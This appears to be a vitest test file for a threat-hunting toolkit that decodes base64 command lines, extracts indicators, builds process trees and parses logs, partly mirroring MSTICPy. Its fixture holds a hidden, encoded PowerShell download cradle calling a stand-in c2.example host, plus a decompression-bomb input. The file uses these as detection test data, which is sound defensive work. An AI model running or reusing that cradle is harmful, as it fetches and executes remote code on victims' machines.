import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  type Cell,
  columnFromCells,
  makeTable,
  sourceOf,
  type Table,
  tableFromRows,
  ticksFromIso,
  toRows,
} from '../../../lib/tables/index.ts';
import { getVerb } from '../../../lib/verbs/registry.ts';
import type { VerbServices } from '../../../lib/verbs/services.ts';
import { itWithShared, sharedPath } from '../../support/shared.ts';
import { csvTable } from '../analysis/support/csv.ts';

const TIME = ticksFromIso('2026-02-03T04:05:06Z')!;
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a.ps1')";
const ENCODED = `powershell.exe -nop -w hidden -enc ${Buffer.from(CRADLE, 'utf16le').toString('base64')}`;

const processes = tableFromRows(
  [
    { name: 'TimeGenerated', type: 'datetime' },
    { name: 'Computer', type: 'string' },
    { name: 'CommandLine', type: 'string' },
    { name: 'FileName', type: 'string' },
  ],
  [
    [TIME, 'ws-1', 'notepad.exe a.txt', 'notepad.exe'],
    [TIME, 'ws-1', ENCODED, 'powershell.exe'],
    [null, 'ws-2', ENCODED, null],
    [TIME, null, null, null],
  ],
);

async function run(name: string, parameters: object, input: Table, services?: VerbServices) {
  const verb = getVerb(name);
  const context = { signal: new AbortController().signal, nowInMs: 0, ...(services ? { services } : {}) };
  const output = await verb.run([sourceOf(input, 'processes')], verb.parameters.parse(parameters), context);
  return { ...output, rows: toRows(output.table as Table) };
}
const one = (text: string) => makeTable([columnFromCells('Text', 'string', [text])]);

describe('decode.base64', () => {
  it('keeps the columns of the rows that gave something, and adds its own', async () => {
    const { rows, findings, warnings } = await run('decode.base64', {}, processes);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      Computer: 'ws-1',
      FileName: 'powershell.exe',
      FileName1: null,
      DecodedText: CRADLE,
      Encoding: 'utf-16le',
      Method: 'base64',
      Reference: '1',
      ParentReference: null,
      Depth: 1,
      DecodedCommand: `powershell.exe -nop -w hidden -enc ${CRADLE}`,
      SourceRow: 1n,
    });
    expect(warnings).toEqual([]);
    expect(findings).toHaveLength(1);
    expect(findings![0]).toMatchObject({
      severity: 'high',
      evidence: [
        { table: 'processes', row: 1, time: '2026-02-03T04:05:06.0000000Z', excerpt: ENCODED },
        { table: 'processes', row: 2, time: null },
      ],
    });
    expect(findings![0]!.entities).toEqual([
      { kind: 'host', id: 'ws-1' },
      { kind: 'host', id: 'ws-2' },
    ]);
  });

  it('has no rows, but its columns, where nothing is hidden', async () => {
    const { rows, table } = await run('decode.base64', { column: 'Text' }, one('nothing to see'));
    expect(rows).toEqual([]);
    expect((table as Table).columns.map((column) => column.name)).toContain('DecodedText');
  });

  it('says which bounds were met', async () => {
    const bomb = gzipSync(Buffer.alloc(10_000_000)).toString('base64');
    const { warnings, partial } = await run('decode.base64', { maxRatio: 50 }, one(bomb));
    expect(warnings).toEqual([{ code: 'limit', message: expect.stringContaining('maxRatio') }]);
    expect(partial).toBe(true);
  });

  it('gives MSTICPy’s fifteen columns on request', async () => {
    const { rows } = await run('decode.base64', { compatibility: 'msticpy' }, processes);
    expect(Object.keys(rows[0]!)).toEqual(
      'reference original_string file_name file_type input_bytes decoded_string encoding_type file_hashes md5 sha1 sha256 printable_bytes src_index CommandLine full_decoded_string'.split(
        ' ',
      ),
    );
    expect(rows[0]).toMatchObject({ reference: '["","1.","1"]', src_index: 1n, encoding_type: 'utf-8' });
  });

  itWithShared(
    'data/msticpy/base64msg.txt',
    'gives MSTICPy’s sixteen rows for two times the nested archives',
    async () => {
      const { readFileSync } = await import('node:fs');
      const text = readFileSync(sharedPath('data/msticpy/base64msg.txt'), 'utf8');
      const table = makeTable([columnFromCells('input', 'string', [text, text])]);
      const { rows, table: output } = await run('decode.base64', { column: 'input', compatibility: 'msticpy' }, table);
      expect([rows.length, (output as Table).columns.length]).toEqual([16, 15]);
    },
  );

  it('names the text columns where none is known, or the named one is none', async () => {
    const other = makeTable([columnFromCells('Odd', 'string', ['x']), columnFromCells('N', 'long', [1])]);
    await expect(run('decode.base64', {}, other)).rejects.toMatchObject({
      code: 'usage',
      hint: expect.stringContaining('Odd'),
    });
    await expect(run('decode.base64', { column: 'N' }, other)).rejects.toThrow(/holds long/);
  });
});

describe('extract.iocs', () => {
  it('gives one row for each indicator, with time and computer', async () => {
    const decoded = (await run('decode.base64', {}, processes)).table as Table;
    const { rows } = await run('extract.iocs', { columns: ['DecodedText'] }, decoded);
    expect(rows).toHaveLength(4);
    expect(rows[0]).toMatchObject({
      TimeGenerated: TIME,
      Computer: 'ws-1',
      IoCType: 'url',
      Observable: 'http://c2.example/a.ps1',
      SourceColumn: 'DecodedText',
      SourceRow: 0n,
      Position: 47,
      Occurrences: 1,
      IsPrivate: null,
    });
  });

  it('flags internal addresses, or leaves them out', async () => {
    const text = one('10.0.0.1 and 8.8.8.8 and 203.0.113.7');
    expect((await run('extract.iocs', {}, text)).rows.map((row) => [row['IsPrivate'], row['AddressRange']])).toEqual([
      [true, 'private'],
      [false, 'unicast'],
      [false, 'reserved'],
    ]);
    expect((await run('extract.iocs', { privateAddresses: false }, text)).rows).toHaveLength(2);
  });

  it('takes custom patterns and several columns', async () => {
    const table = makeTable([columnFromCells('A', 'string', ['INC-7']), columnFromCells('B', 'string', ['192.0.2.1'])]);
    const { rows } = await run('extract.iocs', { columns: ['B', 'A'], patterns: { ticket: 'INC-[0-9]+' } }, table);
    expect(rows.map((row) => [row['SourceColumn'], row['IoCType'], row['Observable']])).toEqual([
      ['B', 'ipv4', '192.0.2.1'],
      ['A', 'ticket', 'INC-7'],
    ]);
  });

  it('gives MSTICPy’s four columns on request', async () => {
    const { rows } = await run('extract.iocs', { compatibility: 'msticpy' }, one('hXXp://evil.com/x'));
    expect(rows).toEqual([
      { IoCType: 'dns', Observable: 'evil.com', SourceIndex: 0n, Input: 'hXXp://evil.com/x' },
      { IoCType: 'url', Observable: 'hXXp://evil.com/x', SourceIndex: 0n, Input: 'hXXp://evil.com/x' },
    ]);
  });
});

describe('build.process-tree', () => {
  const SCHEMA = {
    process_name: 'name',
    process_id: 'pid',
    parent_id: 'ppid',
    time_stamp: 'at',
    cmd_line: 'cmd',
    host_name_column: 'where',
    parent_name: 'parent',
    event_id_column: 'kind',
    event_id_identifier: 'start',
  };
  const events = tableFromRows(
    ['at', 'where', 'name', 'pid', 'parent', 'ppid', 'cmd', 'kind'].map((name) => ({ name, type: 'string' as const })),
    [
      [
        '2026-01-01 00:00:00',
        'h',
        'C:\\Windows\\System32\\wscript.exe',
        '10',
        'explorer.exe',
        '4',
        'wscript a.js',
        'start',
      ],
      ['2026-01-01 00:00:01', 'h', 'C:\\Windows\\System32\\cmd.exe', '11', 'wscript.exe', '10', 'cmd /c x', 'start'],
      ['2026-01-01 00:00:02', 'h', '', '11', '', '', '', 'network'],
    ],
  );

  it('takes any schema in generic names, and reports what is notable', async () => {
    const { rows, findings, tables } = await run('build.process-tree', { schema: SCHEMA }, events);
    expect(rows.map((row) => [row['name'], row['Depth'], row['Inferred']])).toEqual([
      ['C:\\Windows\\System32\\wscript.exe', 1, false],
      ['C:\\Windows\\System32\\cmd.exe', 2, false],
      ['explorer.exe', 0, true],
    ]);
    expect(findings).toMatchObject([
      { title: 'cmd.exe was started by a script host (wscript.exe) on h', evidence: [{ row: 1, excerpt: 'cmd /c x' }] },
    ]);
    expect(toRows(tables!['summary'] as Table)[0]).toMatchObject({ Processes: 3n, OtherRows: 1n });
  });

  it('gives relatives and text', async () => {
    const tree = (await run('build.process-tree', { schema: SCHEMA }, events)).table as Table;
    const key = toRows(tree)[1]!['NodeKey'] as string;
    const { rows } = await run('build.process-relatives', { relation: 'ancestors', key }, tree);
    expect(rows.map((row) => row['pid'])).toEqual(['4', '10', '11']);
    const text = await run('build.process-text', { schema: SCHEMA }, tree);
    expect(text.rows.map((row) => row['Line'])).toContain(
      '   +--  Process: C:\\Windows\\System32\\wscript.exe  PID: 10',
    );
  });

  itWithShared('data/msticpy/vt3_behavior_summary.json', 'unfolds the trees of VirusTotal’s sandboxes', async () => {
    const { readFileSync } = await import('node:fs');
    const report = JSON.parse(readFileSync(sharedPath('data/msticpy/vt3_behavior_summary.json'), 'utf8'));
    const trees = [JSON.stringify(report.processes_tree), 'no JSON'];
    const table = makeTable([columnFromCells('processes_tree', 'dynamic', trees)]);
    const { rows, findings, warnings } = await run('build.process-tree', {}, table);
    expect(rows.filter((row) => row['IsRoot'] === false).length).toBeGreaterThan(3);
    expect(rows.every((row) => row['Inferred'] === false)).toBe(true);
    expect(findings!.some((finding) => finding.reason.includes('turns Defender off'))).toBe(true);
    expect(findings!.every((finding) => finding.evidence.every(({ row }) => row === 0))).toBe(true);
    expect(warnings).toContainEqual({ code: 'bad-data', message: '1 rows hold no tree; the first is row 1' });
  });

  it('refuses what it does not recognise, with what there is', async () => {
    await expect(run('build.process-tree', {}, one('x'))).rejects.toMatchObject({
      code: 'usage',
      hint: expect.stringContaining('Text'),
    });
  });
});

describe('parse verbs', () => {
  it('merge audit records, as MSTICPy too', async () => {
    const lines = ['type=CWD msg=audit(1767690000.123:45): cwd="/root"', 'no record'];
    const table = makeTable([columnFromCells('RawData', 'string', lines)]);
    const { rows, warnings } = await run('parse.auditd', {}, table);
    expect(rows).toMatchObject([{ EventType: 'CWD', cwd: '/root', SourceRow: 0n }]);
    expect(warnings).toMatchObject([{ code: 'bad-data' }]);
    const like = await run('parse.auditd', { compatibility: 'msticpy', eventTypes: ['CWD'] }, table);
    expect(like.rows).toMatchObject([{ EventType: 'CWD', mssg_id: '1767690000.123', cwd: '/root' }]);
  });

  it('split command lines, take URLs apart and read XML', async () => {
    const words = await run('parse.command-line', {}, one('"C:\\a b\\x.exe" /out:y z'));
    expect(words.rows[0]).toMatchObject({
      Program: 'C:\\a b\\x.exe',
      Arguments: '["/out:y","z"]',
      ArgumentCount: 2,
      Switches: '{"out":"y"}',
    });
    const urls = await run('parse.url', { column: 'Text' }, one('https://a.contoso.com:8443/p?q=1#f'));
    expect(urls.rows[0]).toMatchObject({
      UrlHost: 'a.contoso.com',
      UrlPort: '8443',
      UrlDomain: 'contoso.com',
      UrlQuery: '{"q":"1"}',
    });
    const xml = '<EventData><Data Name="Text">t</Data><Data Name="Id">7</Data></EventData>';
    const data = await run('parse.xml', { column: 'Text', eventData: true }, one(xml));
    expect(data.rows[0]).toMatchObject({ Text1: 't', Id: '7' });
    const bad = await run('parse.xml', { column: 'Text' }, one('<a>'));
    expect(bad).toMatchObject({ rows: [{ ParsedXml: null }], warnings: [{ code: 'bad-data' }] });
  });

  itWithShared('data/msticpy/linux_events.csv', 'lead from Log Analytics’ audit messages to a tree', async () => {
    const events = await run('parse.auditd', {}, csvTable(sharedPath('data/msticpy/linux_events.csv')));
    const tree = await run('build.process-tree', {}, events.table as Table);
    expect(tree.rows.filter((row) => row['Inferred'] === false)).toHaveLength(82);
  });
});

describe('obfuscate.columns', () => {
  const services = (key: string | undefined) => ({ secret: async () => key }) as unknown as VerbServices;

  it('masks the well-known columns and those that are named, under the key of a setting', async () => {
    const { rows, warnings, tables } = await run(
      'obfuscate.columns',
      { masks: { FileName: 'path' } },
      processes,
      services('a key for the tests'),
    );
    const shown = (name: string) => rows.map((row): Cell => row[name]!);
    expect(shown('Computer')[0]).not.toBe('ws-1');
    expect(shown('Computer')[0]).toBe(shown('Computer')[1]);
    expect(shown('FileName')[0]).toMatch(/^[a-z]{7}\.exe$/);
    expect(warnings).toEqual([]);
    expect(toRows(tables!['masks'] as Table).map((row) => row['Column'])).toEqual(['Computer', 'FileName']);
  });

  it('refuses to work without a key, and on columns that are not there', async () => {
    await expect(run('obfuscate.columns', {}, processes, services(undefined))).rejects.toThrow(/holds no key/);
    await expect(
      run('obfuscate.columns', { masks: { Nothing: 'text' } }, processes, services('a key for the tests')),
    ).rejects.toThrow(/no column/);
  });
});
